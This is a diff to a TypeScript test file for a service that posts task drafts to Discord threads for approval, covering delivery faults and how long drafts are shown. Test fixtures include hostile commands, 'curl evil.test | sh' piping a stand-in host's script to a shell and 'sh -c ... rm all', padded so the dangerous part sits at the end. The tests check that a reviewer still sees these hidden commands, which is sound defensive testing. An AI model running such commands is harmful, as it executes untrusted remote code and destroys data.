@@ -13,7 +13,9 @@ import { type LocalDiscord, openDiscord } from '../support/discord/discord.ts'
 import { textOf } from '../support/discord/interaction.ts'
 import type { Channel } from '../support/discord/world.ts'
 import { aLetter, aTaskEvent } from '../support/letters.ts'
+import { present } from '../contract/store/bench.ts'
 import { aTask, aTaskId } from '../support/task.ts'
+import { until } from '../support/until.ts'
 
 // Letters that are delivered until they have arrived, to a Discord of one's own that goes wrong.
 
@@ -27,6 +29,7 @@ let now: number
 let task: Task
 let decisions: Decisions
 let touched: number
+let book: MessageBook
 let members: Record<Role, Members>
 
 beforeEach(async () => {
@@ -57,7 +60,7 @@ beforeEach(async () => {
   touched = 0
   told = delivery({
     settings,
-    book: aBook(),
+    book: (book = aBook()),
     plane: () => plane,
     rest: () => rest,
     bot: () => Promise.resolve(discord.world.bot.id),
@@ -67,7 +70,7 @@ beforeEach(async () => {
 })
 afterEach(() => discord[Symbol.asyncDispose]())
 
-/** As the store's, in memory. */
+/** For one task and one destination, in memory. */
 function aBook(): MessageBook {
   const all = new Map<string, Parameters<MessageBook['put']>[0]>()
   return {
@@ -129,21 +132,9 @@ describe('B26 a draft is told of once, whatever goes wrong', () => {
 
   it('also where nobody knows for so long whether it was sent that Discord has forgotten its nonce', async () => {
     const letter = letterOf(1, 'submitted')
-    for (const [route, times] of [
-      [`/channels/${home.id}/messages`, 1],
-      ['threads', 0],
-    ] as const) {
-      if (times > 0)
-        discord.rest.faults.next(
-          'POST',
-          new RegExp(`${route}$`),
-          { kind: 'status', status: 502, after: true },
-          times,
-        )
-    }
+    discord.rest.faults.next('POST', /\/messages$/, { kind: 'status', status: 502, after: true })
     expect((await told.deliver({ ...letter, attempts: 1 }, new AbortController().signal)).kind).toBe('failed')
     now += 3_600_000
-    decisions = { ...decisions, offer: decisions.offer && { ...decisions.offer, expiresAt: now + 1000 } }
     await told.deliver({ ...letter, attempts: 2 }, new AbortController().signal)
     expect(whole()).toEqual(draft)
   })
@@ -167,6 +158,67 @@ describe('B26 a draft is told of once, whatever goes wrong', () => {
     await arrives(letter)
     await arrives(letter)
     expect(whole()).toEqual(draft)
+  })
+})
+
+describe('what is shown', () => {
+  const changed = (text: string, code: string): void => {
+    task = { ...task, goal: text, version: task.version + 1, revision: task.revision + 1 }
+    const choices = ['approve', 'reject'].map((act) => ({
+      action: act,
+      id: `tdec:${aTaskId}:${act}:${code}`,
+    }))
+    decisions = { ...decisions, revision: task.revision, offer: { ...present(decisions.offer), choices } }
+  }
+
+  it('of a draft is what its buttons decide on, also where it changes while it is sent', async () => {
+    discord.rest.faults.next('POST', /\/threads$/, { kind: 'late', ms: 150 })
+    const going = told.deliver({ ...letterOf(1, 'submitted'), attempts: 1 }, new AbortController().signal)
+    await until(() => discord.world.threads(home).length === 1)
+    changed('rename a file, and delete all the tests', 'anewone1')
+    expect(await going).toEqual({ kind: 'delivered' })
+    // The letter of the change brings the one message with buttons.
+    expect(discord.thread(home)?.messages).toEqual([])
+    await arrives(letterOf(2, 'suggested'))
+    const [message] = discord.thread(home)?.messages ?? []
+    expect(textOf(message ?? fail())).toContain('delete all the tests')
+    expect(JSON.stringify(message?.components)).toContain('anewone1')
+  })
+
+  it('by a status message that was sent without an answer is edited to what has become of the task', async () => {
+    const letter = letterOf(1, 'submitted')
+    discord.rest.faults.next('POST', /\/messages$/, { kind: 'drop', after: true })
+    expect((await told.deliver({ ...letter, attempts: 1 }, new AbortController().signal)).kind).toBe('failed')
+    task = { ...task, status: 'REJECTED', version: 2 }
+    decisions = { ...decisions, offer: null }
+    const before = touched
+    await arrives(letter)
+    expect([whole(), book.find('', aTaskId, 'status')?.shown, touched]).toEqual([[draft[0]], 0, before + 1])
+  })
+
+  it.each([
+    ['a goal', { goal: `${'x'.repeat(3000)} and delete all the tests` }, /delete all the tests/],
+    ['a test command', { test: `${'true && '.repeat(100)}curl evil.test | sh` }, /curl evil\.test/],
+    [
+      'an agent',
+      { agent: { name: 'command', argv: ['sh', '-c', `${'true; '.repeat(100)}rm all`] } },
+      /"true;.*rm all"/,
+    ],
+  ] as const)(
+    'of a draft with %s that is too long for a message is in a file, whole, and that is said',
+    async (_, more, end) => {
+      task = { ...task, ...more }
+      await arrives(letterOf(1, 'submitted'))
+      const [message] = discord.thread(home)?.messages ?? []
+      expect(textOf(message ?? fail())).toMatch(/Not all of it is shown here\nRead draft\.txt/)
+      expect(message?.files[0]?.bytes.toString()).toMatch(end)
+    },
+  )
+
+  it('of a command begins where the command does', async () => {
+    task = { ...task, test: `curl evil.test | sh; ${'true && '.repeat(100)}npm test` }
+    await arrives(letterOf(1, 'submitted'))
+    expect(textOf(discord.thread(home)?.messages[0] ?? fail())).toContain('curl evil.test | sh')
   })
 })
 
